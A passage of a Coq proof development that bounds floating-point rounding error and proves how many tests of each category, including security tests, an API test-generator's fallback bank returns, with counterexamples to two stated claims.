    rewrite !category_count_app, !cycled_tests_count, security_tests_count by lia.
    apply count_for_sum.
Qed.

(* ================================================================== *)
(** ** Floats: how far a rounded product can exceed the exact one *)

Lemma pow2_xO (p : positive) : 2 ^ Z.pos p~0 = 2 ^ Z.pos p * 2 ^ Z.pos p.
Proof. rewrite <- Z.pow_add_r by lia. f_equal. lia. Qed.

Lemma pow2_xI (p : positive) : 2 ^ Z.pos p~1 = 2 * (2 ^ Z.pos p * 2 ^ Z.pos p).
Proof.
  rewrite <- Z.pow_add_r by lia.
  replace (Z.pos p~1) with (Z.succ (Z.pos p + Z.pos p)) by lia.
  rewrite Z.pow_succ_r by lia. reflexivity.
Qed.

Lemma iter_shr_1_div (p : positive) (x : shr_record) :
  0 <= shr_m x ->
  0 <= shr_m (iter_pos shr_1 p x)
  /\ shr_m (iter_pos shr_1 p x) * 2 ^ Z.pos p <= shr_m x.
Proof.
  assert (H1 : forall y, 0 <= shr_m y -> 0 <= shr_m (shr_1 y) /\ shr_m (shr_1 y) * 2 <= shr_m y).
  { intros [m r s]; simpl. destruct m as [| [q | q |] | q]; simpl; lia. }
  revert x. induction p as [p IH | p IH |]; intros x Hx; cbn [iter_pos].
  - destruct (H1 x Hx) as [Ha Hb].
    destruct (IH _ Ha) as [Hc Hd]. destruct (IH _ Hc) as [He Hf].
    split; [exact He |].
    rewrite pow2_xI.
    set (q := 2 ^ Z.pos p) in *. assert (0 < q) by (apply Z.pow_pos_nonneg; lia).
    nia.
  - destruct (IH _ Hx) as [Hc Hd]. destruct (IH _ Hc) as [He Hf].
    split; [exact He |].
    rewrite pow2_xO.
    set (q := 2 ^ Z.pos p) in *. assert (0 < q) by (apply Z.pow_pos_nonneg; lia).
    nia.
  - change (2 ^ 1) with 2. now apply H1.
Qed.

(** shifting right by [n]: the exponent grows by [max 0 n] and the mantissa
    is divided by that power of two, rounded down *)
Lemma shr_div (mrs : shr_record) (e n : Z) :
  0 <= shr_m mrs ->
  0 <= shr_m (fst (shr mrs e n))
  /\ snd (shr mrs e n) = e + Z.max 0 n
  /\ shr_m (fst (shr mrs e n)) * 2 ^ Z.max 0 n <= shr_m mrs.
Proof.
  intros Hm. destruct n as [| p | p]; cbn [shr fst snd].
  - change (2 ^ Z.max 0 0) with 1. lia.
  - destruct (iter_shr_1_div p mrs Hm) as [Ha Hb].
    replace (Z.max 0 (Z.pos p)) with (Z.pos p) by lia. lia.
  - change (2 ^ Z.max 0 (Z.neg p)) with 1. lia.
Qed.

Lemma binary_round_aux_upper (s : bool) (m e : Z) (l : location) :
  0 < m ->
  match binary_round_aux 53 1024 s m e l with
  | S754_finite s' m' e' =>
      s' = s /\ e + shift_of m e <= e'
      /\ Z.pos m' * 2 ^ (e' - e) <= m + 2 ^ shift_of m e
  | _ => True
  end.
Proof.
  intros Hm. unfold binary_round_aux, shr_fexp.
  destruct (shr_div (shr_record_of_loc m l) e (fexp 53 1024 (Zdigits2 m + e) - e))
    as (Ha & Hb & Hc).
  { rewrite shr_m_of_loc. lia. }
  rewrite shr_m_of_loc in Hc. fold (shift_of m e) in Hb, Hc.
  destruct (shr (shr_record_of_loc m l) e _) as [mrs1 e1]; cbn [fst snd] in *.
  pose proof (round_nearest_even_bound (shr_m mrs1) (loc_of_shr_record mrs1)) as Hr.
  set (m2 := round_nearest_even (shr_m mrs1) (loc_of_shr_record mrs1)) in *.
  destruct (shr_div (shr_record_of_loc m2 loc_Exact) e1
              (fexp 53 1024 (Zdigits2 m2 + e1) - e1)) as (Hd & He & Hf).
  { cbn. lia. }
  destruct (shr (shr_record_of_loc m2 loc_Exact) e1 _) as [mrs3 e3];
    cbn [fst snd shr_record_of_loc shr_m] in *.
  destruct (shr_m mrs3) as [| p | p] eqn:E; try exact I.
  destruct (e3 <=? 1024 - 53); [| exact I].
  set (k1 := shift_of m e) in *.
  set (k2 := Z.max 0 (fexp 53 1024 (Zdigits2 m2 + e1) - e1)) in *.
  assert (0 <= k1) by (unfold k1, shift_of; lia).
  assert (0 <= k2) by (unfold k2; lia).
  split; [reflexivity |]. split; [lia |].
  replace (e3 - e) with (k2 + k1) by lia.
  rewrite Z.pow_add_r by lia.
  assert (0 < 2 ^ k1) by (apply Z.pow_pos_nonneg; lia).
  assert (0 < 2 ^ k2) by (apply Z.pow_pos_nonneg; lia).
  set (a := 2 ^ k1) in *. set (b := 2 ^ k2) in *.
  assert (Z.pos p * b * a <= (shr_m mrs1 + 1) * a) by (apply Z.mul_le_mono_nonneg_r; lia).
  lia.
Qed.

Lemma pow_digits_le (p : positive) : 2 ^ Z.pos (digits2_pos p) <= 2 * Z.pos p.
Proof.
  rewrite digits2_pos_size.
  pose proof (Pos.size_le p) as Hle.
  apply Pos2Z.pos_le_pos in Hle. now rewrite Pos2Z.inj_pow in Hle.
Qed.

Lemma shift_bound (p : positive) (e : Z) :
  2 ^ 52 <= Z.pos p -> -1021 <= e ->
  2 ^ 52 * 2 ^ shift_of (Z.pos p) e <= Z.pos p.
Proof.
  intros Hp He. unfold shift_of, fexp, emin. cbn [Zdigits2].
  pose proof (pos_lt_pow_digits p) as Hlt.
  pose proof (pow_digits_le p) as Hle.
  set (d := Z.pos (digits2_pos p)) in *.
  assert (Hd : 52 < d).
  { apply (Z.pow_lt_mono_r_iff 2); lia. }
  replace (Z.max 0 (Z.max (d + e - 53) (3 - 1024 - 53) - e)) with (d - 53) by lia.
  rewrite <- Z.pow_add_r by lia.
  replace (52 + (d - 53)) with (d - 1) by lia.
  assert (2 ^ d = 2 * 2 ^ (d - 1)) as Hs.
  { replace d with (Z.succ (d - 1)) at 1 by lia. rewrite Z.pow_succ_r by lia. reflexivity. }
  lia.
Qed.

(** rounding a mantissa of at least 53 bits raises the value by at most
    one part in [2^52] *)
Lemma binary_round_aux_relative (s : bool) (p : positive) (e : Z) (l : location) :
  2 ^ 52 <= Z.pos p -> -1021 <= e ->
  match binary_round_aux 53 1024 s (Z.pos p) e l with
  | S754_finite s' m' e' =>
      s' = s /\ e <= e'
      /\ 2 ^ 52 * (Z.pos m' * 2 ^ (e' - e)) <= Z.pos p * (2 ^ 52 + 1)
  | _ => True
  end.
Proof.
  intros Hp He.
  pose proof (binary_round_aux_upper s (Z.pos p) e l ltac:(lia)) as Hu.
  pose proof (shift_bound p e Hp He) as Hs.
  destruct (binary_round_aux 53 1024 s (Z.pos p) e l) as [| | | s' m' e']; try exact I.
  destruct Hu as (Hsign & He' & Hu).
  assert (0 <= shift_of (Z.pos p) e) by (unfold shift_of; lia).
  split; [exact Hsign |]. split; [lia |].
  set (q := 2 ^ shift_of (Z.pos p) e) in *.
  set (v := Z.pos m' * 2 ^ (e' - e)) in *.
  clearbody q v. clear - Hu Hs. 
  change (2 ^ 52) with 4503599627370496 in *. lia.
Qed.

Lemma shl_align_normal (p : positive) :
  exists mz ez,
    shl_align p 0 (fexp 53 1024 (Z.pos (digits2_pos p) + 0)) = (mz, ez)
    /\ -52 <= ez <= 0 /\ Z.pos mz = Z.pos p * 2 ^ (- ez) /\ 2 ^ 52 <= Z.pos mz.
Proof.
  unfold shl_align, fexp, emin.
  pose proof (pow_digits_le p) as Hle.
  set (d := Z.pos (digits2_pos p)) in *.
  assert (Hd : 0 < d) by (unfold d; lia).
  destruct (Z.max (d + 0 - 53) (3 - 1024 - 53) - 0) as [| k | k] eqn:E.
  - exists p, 0. split; [reflexivity |]. split; [lia |]. split; [simpl; lia |].
    assert (2 ^ 53 <= 2 ^ d) by (apply Z.pow_le_mono_r; lia).
    change (2 ^ 53) with (2 * 2 ^ 52) in *. lia.
  - exists p, 0. split; [reflexivity |]. split; [lia |]. split; [simpl; lia |].
    assert (2 ^ 53 <= 2 ^ d) by (apply Z.pow_le_mono_r; lia).
    change (2 ^ 53) with (2 * 2 ^ 52) in *. lia.
  - eexists _, _. split; [reflexivity |].
    assert (Hk : Z.pos k = 53 - d) by lia.
    replace (Z.max (d + 0 - 53) (3 - 1024 - 53)) with (d - 53) by lia.
    split; [lia |]. rewrite iter_xO_pow.
    replace (- (d - 53)) with (Z.pos k) by lia.
    split; [reflexivity |]. rewrite Hk.
    assert (2 ^ d * 2 ^ (53 - d) = 2 ^ 53) as Hpow.
    { rewrite <- Z.pow_add_r by lia. f_equal. lia. }
    assert (0 < 2 ^ (53 - d)) by (apply Z.pow_pos_nonneg; lia).
    change (2 ^ 53) with (2 * 2 ^ 52) in Hpow.
    set (a := 2 ^ d) in *. set (b := 2 ^ (53 - d)) in *. set (c := 2 ^ 52) in *.
    clearbody a b c. nia.
Qed.

Lemma float_of_Z_upper (p : positive) :
  match float_of_Z (Z.pos p) with
  | S754_finite s mf ef =>
      s = false /\ -52 <= ef
      /\ 2 ^ 52 * (Z.pos mf * 2 ^ (ef + 64)) <= Z.pos p * (2 ^ 64 * (2 ^ 52 + 1))
  | _ => True
  end.
Proof.
  unfold float_of_Z, binary_normalize, binary_round.
  destruct (shl_align_normal p) as (mz & ez & E & Hez & Hmz & Hn).
  unfold prec, emax. rewrite E.
  pose proof (binary_round_aux_relative false mz ez loc_Exact Hn ltac:(lia)) as Hr.
  destruct (binary_round_aux 53 1024 false (Z.pos mz) ez loc_Exact)
    as [| | | s mf ef]; try exact I.
  destruct Hr as (Hs & He & Hr).
  split; [exact Hs |]. split; [lia |].
  rewrite Hmz in Hr.
  replace (ef + 64) with ((ef - ez) + (ez + 64)) by lia.
  rewrite Z.pow_add_r by lia.
  assert (2 ^ 64 = 2 ^ (- ez) * 2 ^ (ez + 64)) as ->.
  { rewrite <- Z.pow_add_r by lia. f_equal. lia. }
  assert (0 < 2 ^ (ez + 64)) by (apply Z.pow_pos_nonneg; lia).
  set (a := 2 ^ (ef - ez)) in *. set (b := 2 ^ (ez + 64)) in *.
  set (c := 2 ^ (- ez)) in *. set (t := 2 ^ 52) in *.
  clearbody a b c t. clear - Hr H. nia.
Qed.

Lemma int_of_float_upper (m : positive) (e : Z) :
  -128 <= e ->
  exists r, py_int_of_float (S754_finite false m e) = Ok r
            /\ 0 <= r /\ r * 2 ^ 128 <= Z.pos m * 2 ^ (e + 128).
Proof.
  intros He. unfold py_int_of_float, cond_Zopp.
  destruct (0 <=? e) eqn:E; eexists; (split; [reflexivity |]).
  - apply Z.leb_le in E. rewrite Z.pow_add_r by lia.
    assert (0 < 2 ^ e) by (apply Z.pow_pos_nonneg; lia). split; nia.
  - apply Z.leb_gt in E.
    assert (Hq : 0 < 2 ^ (- e)) by (apply Z.pow_pos_nonneg; lia).
    pose proof (Z.mul_div_le (Z.pos m) (2 ^ (- e)) Hq) as Hd.
    pose proof (Z.div_pos (Z.pos m) (2 ^ (- e)) ltac:(lia) Hq) as Hp.
    split; [exact Hp |].
    assert (2 ^ 128 = 2 ^ (- e) * 2 ^ (e + 128)) as ->.
    { rewrite <- Z.pow_add_r by lia. f_equal. lia. }
    assert (0 < 2 ^ (e + 128)) by (apply Z.pow_pos_nonneg; lia).
    set (q := Z.pos m / 2 ^ (- e)) in *. set (a := 2 ^ (- e)) in *.
    set (b := 2 ^ (e + 128)) in *. clearbody q a b. nia.
Qed.

Lemma share_count_upper (minimum n : Z) (mc : positive) (ec : Z) :
  1 <= n <= PY_SSIZE_T_MAX -> 2 ^ 52 <= Z.pos mc < 2 ^ 53 -> -64 <= ec <= 0 ->
  exists r,
    share_count minimum n (S754_finite false mc ec) = Ok (Z.max minimum r)
    /\ 0 <= r /\ r * 2 ^ 232 <= n * share_factor mc ec.
Proof.
  intros Hn Hmc Hec.
  assert (Hpos : 0 <= share_factor mc ec).
  { unfold share_factor. assert (0 < 2 ^ (ec + 64)) by (apply Z.pow_pos_nonneg; lia).
    change (2 ^ 64) with 18446744073709551616. change (2 ^ 52) with 4503599627370496. nia. }
  unfold share_count, py_mul_int_float, py_float_of_int.
  pose proof (float_of_Z_finite n ltac:(lia)) as Hf.
  destruct n as [| p | p]; try lia.
  pose proof (float_of_Z_upper p) as Hu.
  destruct (float_of_Z (Z.pos p)) as [s | s | | s mf ef]; try elim Hf; cbn [bind].
  - exists 0. split; [reflexivity |]. split; [lia |].
    rewrite Z.mul_0_l. apply Z.mul_nonneg_nonneg; lia.
  - destruct Hu as (-> & Hef & Hu).
    pose proof (SFmul_finite _ false mc ec 64 127 Hf (proj2 Hmc) (proj2 Hec)
                  ltac:(discriminate) ltac:(discriminate) ltac:(discriminate)) as Hfin.
    clear Hf. unfold SFmul in *. cbn [xorb] in *.
    assert (Hprod : 2 ^ 52 <= Z.pos (mf * mc)) by (rewrite Pos2Z.inj_mul; nia).
    pose proof (binary_round_aux_relative false (mf * mc) (ef + ec) loc_Exact Hprod
                  ltac:(lia)) as Hr.
    destruct (binary_round_aux prec emax false (Z.pos (mf * mc)) (ef + ec) loc_Exact)
      as [s' | s' | | s' m' e'] eqn:Er; unfold prec, emax in Er; rewrite Er in Hr, Hfin.
    + exists 0. split; [reflexivity |]. split; [lia |].
      rewrite Z.mul_0_l. apply Z.mul_nonneg_nonneg; lia.
    + elim Hfin.
    + elim Hfin.
    + destruct Hr as (-> & He' & Hr).
      destruct (int_of_float_upper m' e' ltac:(lia)) as (r & Eint & Hr0 & Hint).
      rewrite Eint. cbn [bind]. exists r. split; [reflexivity |]. split; [exact Hr0 |].
      unfold share_factor.
      rewrite Pos2Z.inj_mul in Hr.
      assert (Hx : Z.pos m' * 2 ^ (e' + 128)
                   = Z.pos m' * 2 ^ (e' - (ef + ec)) * (2 ^ (ef + 64) * 2 ^ (ec + 64))).
      { rewrite <- !Z.pow_add_r by lia. rewrite <- Z.mul_assoc, <- Z.pow_add_r by lia.
        do 2 f_equal. lia. }
      rewrite Hx in Hint. clear Hx.
      assert (HA : 0 < 2 ^ (ef + 64)) by (apply Z.pow_pos_nonneg; lia).
      assert (HB : 0 < 2 ^ (ec + 64)) by (apply Z.pow_pos_nonneg; lia).
      assert (HV : 0 <= Z.pos m' * 2 ^ (e' - (ef + ec)))
        by (apply Z.mul_nonneg_nonneg; [lia | apply Z.pow_nonneg; lia]).
      change (2 ^ 232) with (2 ^ 128 * (2 ^ 52 * 2 ^ 52)).
      set (A := 2 ^ (ef + 64)) in *. set (B := 2 ^ (ec + 64)) in *.
      set (V := Z.pos m' * 2 ^ (e' - (ef + ec))) in *.
      set (T := 2 ^ 52) in *. set (S := 2 ^ 64) in *. set (W := 2 ^ 128) in *.
      assert (HT : 0 < T) by (unfold T; lia). assert (HS : 0 < S) by (unfold S; lia).
      assert (HW : 0 < W) by (unfold W; lia).
      clearbody A B V T S W. clear - Hu Hr Hint HA HB HV HT HS HW Hr0.
      (* r W <= V A B ; T V <= mf mc (T+1) ; T mf A <= p S (T+1) *)
      assert (S1 : r * W * (T * T) <= V * (A * B) * (T * T)) by nia.
      assert (S2 : V * (A * B) * (T * T) = (T * V) * (T * A * B)) by ring.
      assert (S3 : (T * V) * (T * A * B) <= (Z.pos mf * Z.pos mc * (T + 1)) * (T * A * B))
        by (apply Z.mul_le_mono_nonneg_r; nia).
      assert (S4 : (Z.pos mf * Z.pos mc * (T + 1)) * (T * A * B)
                   = (T * (Z.pos mf * A)) * (Z.pos mc * B * (T + 1))) by ring.
      assert (S5 : (T * (Z.pos mf * A)) * (Z.pos mc * B * (T + 1))
                   <= (Z.pos p * (S * (T + 1))) * (Z.pos mc * B * (T + 1)))
        by (apply Z.mul_le_mono_nonneg_r; nia).
      assert (S6 : (Z.pos p * (S * (T + 1))) * (Z.pos mc * B * (T + 1))
                   = Z.pos p * (Z.pos mc * B * (S * ((T + 1) * (T + 1))))) by ring.
      replace (r * (W * (T * T))) with (r * W * (T * T)) by ring.
      lia.
Qed.

Lemma share_count_coarse (minimum n : Z) (mc : positive) (ec : Z) (num den : Z) :
  1 <= n <= PY_SSIZE_T_MAX -> 2 ^ 52 <= Z.pos mc < 2 ^ 53 -> -64 <= ec <= 0 ->
  den * share_factor mc ec <= num * 2 ^ 232 -> 0 <= den ->
  exists r,
    share_count minimum n (S754_finite false mc ec) = Ok (Z.max minimum r)
    /\ 0 <= r /\ den * r <= num * n.
Proof.
  intros Hn Hmc Hec Hk Hden.
  destruct (share_count_upper minimum n mc ec Hn Hmc Hec) as (r & E & Hr & Hu).
  exists r. split; [exact E |]. split; [exact Hr |].
  assert (HP : 0 < 2 ^ 232) by reflexivity.
  set (P := 2 ^ 232) in *. set (K := share_factor mc ec) in *. clearbody P K.
  clear - Hn Hk Hden Hr Hu HP.
  assert (den * r * P <= num * n * P); [| nia].
  replace (den * r * P) with (den * (r * P)) by ring.
  replace (num * n * P) with (n * (num * P)) by ring.
  transitivity (den * (n * K)); [apply Z.mul_le_mono_nonneg_l; lia |].
  replace (den * (n * K)) with (n * (den * K)) by ring.
  apply Z.mul_le_mono_nonneg_l; lia.
Qed.

Lemma happy_path_not_negative (num : Z) (c : Counts) :
  14 <= num <= PY_SSIZE_T_MAX -> fallback_counts num = Ok c -> 0 <= happy_path c.
Proof.
  intros Hn. unfold fallback_counts.
  rewrite lit_25_100, lit_20_100, lit_15_100.
  destruct (share_count_coarse 3 num 4503599627370496 (-54) 26 100) as (h & -> & Hh0 & Hh);
    [lia | split; reflexivity || discriminate | lia | vm_compute; discriminate | lia |].
  destruct (share_count_coarse 3 num 7205759403792794 (-55) 21 100) as (n & -> & Hn0 & Hn1);
    [lia | split; reflexivity || discriminate | lia | vm_compute; discriminate | lia |].
  destruct (share_count_coarse 5 num 7205759403792794 (-55) 21 100) as (s & -> & Hs0 & Hs1);
    [lia | split; reflexivity || discriminate | lia | vm_compute; discriminate | lia |].
  destruct (share_count_coarse 3 num 5404319552844595 (-55) 16 100) as (e & -> & He0 & He1);
    [lia | split; reflexivity || discriminate | lia | vm_compute; discriminate | lia |].
  cbn [bind]. intros [= <-]. cbn [happy_path].
  destruct (_ <? num) eqn:E1; [apply Z.ltb_lt in E1; lia |].
  destruct (num <? _) eqn:E2; [apply Z.ltb_lt in E2; lia |].
  apply Z.ltb_ge in E1, E2. lia.
Qed.

(* ================================================================== *)
(** ** Properties of the template test bank *)

Lemma security_share_of_counts (num : Z) (c : Counts) :
  fallback_counts num = Ok c ->
  share_count 5 num (float_lit 20 100) = Ok (security_test c).
Proof.
  unfold fallback_counts.
  destruct (share_count 3 num (float_lit 25 100)) as [h | e]; [| discriminate].
  destruct (share_count 3 num (float_lit 20 100)) as [n | e]; [| discriminate].
  destruct (share_count 5 num (float_lit 20 100)) as [s | e]; [| discriminate].
  destruct (share_count 3 num (float_lit 15 100)) as [d | e]; [| discriminate].
  cbn [bind]. now intros [= <-].
Qed.

(** C2. For every count [num >= 1] (that a list can have as its length)
    and every sample payload, the template test bank returns exactly [num]
    test cases.  The counts of the categories other than [happy_path] are at
    least their minimums (3, and 5 for [security_test]), and the
    [happy_path] count absorbs the difference, so that the five counts add
    up to [num]. *)
Theorem fallback_returns_exactly_num :
  forall (api_url : string) (sample_data : dict) (num : Z) (has_auth : bool) (g : rng),
    1 <= num <= PY_SSIZE_T_MAX ->
    exists c tests g',
      fallback_counts num = Ok c
      /\ 3 <= negative_test c /\ 5 <= security_test c
      /\ 3 <= edge_case c /\ 3 <= fuzz_test c
      /\ happy_path c + negative_test c + security_test c + edge_case c + fuzz_test c = num
      /\ _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g')
      /\ List.length tests = Z.to_nat num.
Proof.
  intros api_url sample_data num has_auth g Hn.
  destruct (fallback_counts_ok num ltac:(lia)) as (c & Ec & H1 & H2 & H3 & H4 & Hsum).
  destruct (fallback_tests_ok api_url sample_data num has_auth g ltac:(lia))
    as (c' & tests & g' & Ec' & Et & Hlen & _).
  exists c, tests, g'. repeat split; assumption.
Qed.

Lemma fallback_returns_exactly_num_witness :
  exists c tests g',
    fallback_counts 30 = Ok c
    /\ 3 <= negative_test c /\ 5 <= security_test c
    /\ 3 <= edge_case c /\ 3 <= fuzz_test c
    /\ happy_path c + negative_test c + security_test c + edge_case c + fuzz_test c = 30
    /\ _generate_fallback_tests "https://jsonplaceholder.typicode.com"
         [("userId", JInt 1); ("title", JStr "t"); ("body", JStr "b")] 30 false [3; 1; 4]%nat
       = Ok (tests, g')
    /\ List.length tests = Z.to_nat 30.
Proof.
  apply (fallback_returns_exactly_num "https://jsonplaceholder.typicode.com"
           [("userId", JInt 1); ("title", JStr "t"); ("body", JStr "b")] 30 false
           [3; 1; 4]%nat).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

(** C3, as the code has it.  For every count [num >= 14] the list the
    template test bank returns holds exactly [max(5, int(num * 0.2))] tests
    of the category [security_test]: the product is truncated, not rounded.
    For [num = 50] that is 10. *)
Theorem fallback_security_count :
  forall (api_url : string) (sample_data : dict) (num : Z) (has_auth : bool) (g : rng),
    14 <= num <= PY_SSIZE_T_MAX ->
    exists s tests g',
      share_count 5 num (float_lit 20 100) = Ok s
      /\ _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g')
      /\ category_count "security_test" tests = Z.to_nat s
      /\ (num = 50 -> s = 10).
Proof.
  intros api_url sample_data num has_auth g Hn.
  destruct (fallback_tests_ok api_url sample_data num has_auth g ltac:(lia))
    as (c & tests & g' & Ec & Et & _ & Hcount).
  pose proof (happy_path_not_negative num c Hn Ec) as Hh.
  pose proof (security_share_of_counts num c Ec) as Es.
  exists (security_test c), tests, g'.
  split; [exact Es |]. split; [exact Et |]. split.
  - exact (Hcount Hh "security_test").
  - intros ->.
    assert (E50 : share_count 5 50 (float_lit 20 100) = Ok 10) by (vm_compute; reflexivity).
    congruence.
Qed.

Lemma fallback_security_count_witness :
  exists s tests g',
    share_count 5 50 (float_lit 20 100) = Ok s
    /\ _generate_fallback_tests "http://example.com" [] 50 true [] = Ok (tests, g')
    /\ category_count "security_test" tests = Z.to_nat s
    /\ (50 = 50 -> s = 10).
Proof.
  apply (fallback_security_count "http://example.com" [] 50 true []).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

(** C3 as stated fails: for [num = 53] the list holds 10 security tests,
    one fewer than [max(5, round(0.2 * 53))], which is 11. *)
Lemma fallback_security_count_at_53 :
  returned_count "security_test"
    (_generate_fallback_tests "http://example.com" [] 53 true []) = Some 10%nat
  /\ (x <- py_mul_int_float 53 (float_lit 20 100) ;; py_round x) = Ok 11
  /\ 10 < Z.max 5 11.
Proof.
  split; [vm_compute; reflexivity |]. split; [vm_compute; reflexivity | reflexivity].
Qed.

(** C4, as the code has it.  For every count [num >= 14] and every sample
    payload, two runs of the template test bank that differ in their random
    source only return lists with the same number of tests of each
    category; the order of the tests, and which of the security templates
    are taken, depend on the random source. *)
Theorem fallback_counts_ignore_the_seed :
  forall (api_url : string) (sample_data : dict) (num : Z) (has_auth : bool)
         (g1 g2 : rng),
    14 <= num <= PY_SSIZE_T_MAX ->
    exists tests1 g1' tests2 g2',
      _generate_fallback_tests api_url sample_data num has_auth g1 = Ok (tests1, g1')
      /\ _generate_fallback_tests api_url sample_data num has_auth g2 = Ok (tests2, g2')
      /\ forall category,
           category_count category tests1 = category_count category tests2.
Proof.
  intros api_url sample_data num has_auth g1 g2 Hn.
  destruct (fallback_tests_ok api_url sample_data num has_auth g1 ltac:(lia))
    as (c1 & tests1 & g1' & Ec1 & Et1 & _ & Hcount1).
  destruct (fallback_tests_ok api_url sample_data num has_auth g2 ltac:(lia))
    as (c2 & tests2 & g2' & Ec2 & Et2 & _ & Hcount2).
  assert (c2 = c1) as -> by congruence.
  pose proof (happy_path_not_negative num c1 Hn Ec1) as Hh.
  exists tests1, g1', tests2, g2'.
  split; [exact Et1 |]. split; [exact Et2 |].
  intros category. now rewrite (Hcount1 Hh), (Hcount2 Hh).
Qed.

Lemma fallback_counts_ignore_the_seed_witness :
  exists tests1 g1' tests2 g2',
    _generate_fallback_tests "http://example.com" [("name", JStr "x")] 20 false
      [5; 8; 13]%nat = Ok (tests1, g1')
    /\ _generate_fallback_tests "http://example.com" [("name", JStr "x")] 20 false
         [2; 7; 1; 8; 2; 8]%nat = Ok (tests2, g2')
    /\ forall category,
         category_count category tests1 = category_count category tests2.
Proof.
  apply (fallback_counts_ignore_the_seed "http://example.com" [("name", JStr "x")] 20
           false [5; 8; 13]%nat [2; 7; 1; 8; 2; 8]%nat).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

(** C4 as stated fails: for [num = 13] the bank builds its 14 minimum
    tests, shuffles them and returns the first 13, so the test left out,
    and with it the counts, depend on the random source: 4 security tests
    with one source, 5 with another. *)
Lemma fallback_counts_depend_on_the_seed_at_13 :
  returned_count "security_test"
    (_generate_fallback_tests "http://example.com" [] 13 false []) = Some 4%nat
  /\ returned_count "security_test"
       (_generate_fallback_tests "http://example.com" [] 13 false
          (repeat 0%nat 33 ++ [13%nat])) = Some 5%nat.
Proof.
  split; vm_compute; reflexivity.
Qed.

(* ================================================================== *)
(** ** Properties of the generation orchestrator *)

Section GeneratorFacts.
Context `{Builtins}.

Lemma fallback_ok (api_url : string) (sample_data : dict) (num : Z)
      (has_auth : bool) (g : rng) :
  0 <= num <= PY_SSIZE_T_MAX ->
  exists tests g',
    fallback api_url sample_data num has_auth g = Ok (tests, true, g')
    /\ List.length tests = Z.to_nat num.
Proof.
  intros Hn.
  destruct (fallback_tests_ok api_url sample_data num has_auth g Hn)
    as (c & tests & g' & _ & Et & Hlen & _).
  exists tests, g'. unfold fallback. rewrite Et. now split.
Qed.

Lemma min_acceptable_ok (num : Z) :
  1 <= num <= PY_SSIZE_T_MAX ->
  exists m, min_acceptable num = Ok m /\ 1 <= m <= num.
Proof.
  intros Hn. unfold min_acceptable. rewrite lit_8_10.
  destruct (share_count_coarse 1 num 7205759403792794 (-53) 81 100) as (r & -> & Hr0 & Hr);
    [lia | split; reflexivity || discriminate | lia | vm_compute; discriminate | lia |].
  eexists. split; [reflexivity | lia].
Qed.

Lemma attempt_step_return (num_tests : Z) (attempt : nat) (reply : Reply)
      (tests : list dict) (m : Z) :
  1 <= num_tests -> min_acceptable num_tests = Ok m -> m <= num_tests ->
  attempt_step num_tests attempt reply = Return tests ->
  m <= len tests <= num_tests.
Proof.
  intros Hn Em Hm. unfold attempt_step. rewrite Em.
  destruct reply as [ | | | | parsed];
    try (destruct (Nat.eqb attempt (max_retries - 1)); discriminate);
    try (destruct (attempt <? max_retries - 1)%nat; discriminate);
    try discriminate.
  destruct (tests_of_parsed parsed) as [[ | | | | | test_cases | ] |];
    try (destruct (attempt <? max_retries - 1)%nat; discriminate).
  destruct (num_tests <=? len (validated_cases test_cases)) eqn:E1.
  - apply Z.leb_le in E1. intros [= <-].
    unfold len in *. rewrite length_slice_to by lia. lia.
  - apply Z.leb_gt in E1.
    destruct (m <=? len (validated_cases test_cases)) eqn:E2.
    + apply Z.leb_le in E2. intros [= <-]. lia.
    + destruct (attempt <? max_retries - 1)%nat; discriminate.
Qed.

Lemma attempts_return (remaining attempt : nat) (num_tests : Z)
      (replies : nat -> Reply) (tests : list dict) (m : Z) :
  1 <= num_tests -> min_acceptable num_tests = Ok m -> m <= num_tests ->
  attempts remaining attempt num_tests replies = Some tests ->
  m <= len tests <= num_tests.
Proof.
  intros Hn Em Hm. revert attempt.
  induction remaining as [| remaining IH]; intros attempt; simpl; [discriminate |].
  destruct (attempt_step num_tests attempt (replies attempt)) as [ts | |] eqn:E.
  - intros [= <-]. exact (attempt_step_return _ _ _ _ _ Hn Em Hm E).
  - apply IH.
  - discriminate.
Qed.

Lemma single_batch_ok (api_url : string) (sample_data : dict) (num_tests : Z)
      (test_types : list string) (has_auth : bool) (batch_num total : Z)
      (client : option Reply) (g : rng) :
  0 <= num_tests <= PY_SSIZE_T_MAX ->
  exists tests used g',
    _generate_single_batch api_url sample_data num_tests test_types has_auth
      batch_num total client g = Ok (tests, used, g').
Proof.
  intros Hn.
  destruct (fallback_ok api_url sample_data num_tests has_auth g Hn) as (ft & fg & Ef & _).
  unfold _generate_single_batch. rewrite Ef.
  destruct client as [[ | | | | parsed] |]; try (now eexists _, _, _).
  destruct (tests_of_parsed parsed) as [test_cases |]; [| now eexists _, _, _].
  destruct (py_iter test_cases) as [items | e]; [| now eexists _, _, _].
  destruct (py_mul_int_float num_tests (float_lit 7 10)) as [threshold | e];
    [| now eexists _, _, _].
  destruct (py_ge_int_float _ threshold); [now eexists _, _, _ |].
  destruct (_generate_fallback_tests api_url sample_data _ has_auth g) as [[extra g'] | e];
    now eexists _, _, _.
Qed.

Lemma run_batches_ok (api_url : string) (sample_data : dict) (test_types : list string)
      (has_auth : bool) (total : Z) (client : Client) (counts : list Z) :
  Forall (fun c => 0 <= c <= PY_SSIZE_T_MAX) counts ->
  forall (batch_idx : nat) (all_tests : list dict) (used : bool) (g : rng),
  exists tests used' g',
    run_batches api_url sample_data test_types has_auth total client counts
      batch_idx all_tests used g = Ok (tests, used', g').
Proof.
  induction 1 as [| c counts Hc _ IH]; intros batch_idx all_tests used g; simpl.
  - now eexists _, _, _.
  - destruct (single_batch_ok api_url sample_data c test_types has_auth
                (Z.of_nat batch_idx + 1) total
                (option_map (fun replies => replies batch_idx) client) g Hc)
      as (bt & bu & bg & ->).
    cbn [bind]. apply IH.
Qed.

Lemma batch_counts_spec (batches : nat) (remaining : Z) :
  40 * (Z.of_nat batches - 1) < remaining <= 40 * Z.of_nat batches ->
  (batches = 0%nat -> remaining = 0) ->
  Forall (fun c => 1 <= c <= 40) (batch_counts batches remaining)
  /\ sum_Z (batch_counts batches remaining) = remaining
  /\ List.length (batch_counts batches remaining) = batches.
Proof.
  revert remaining. induction batches as [| b IH]; intros remaining Hr H0; simpl.
  - rewrite (H0 eq_refl). repeat split. constructor.
  - unfold batch_size.
    destruct (IH (remaining - Z.min 40 remaining)) as (Hf & Hs & Hl); [lia | lia |].
    split; [constructor; [lia | exact Hf] |]. split; [lia | now rewrite Hl].
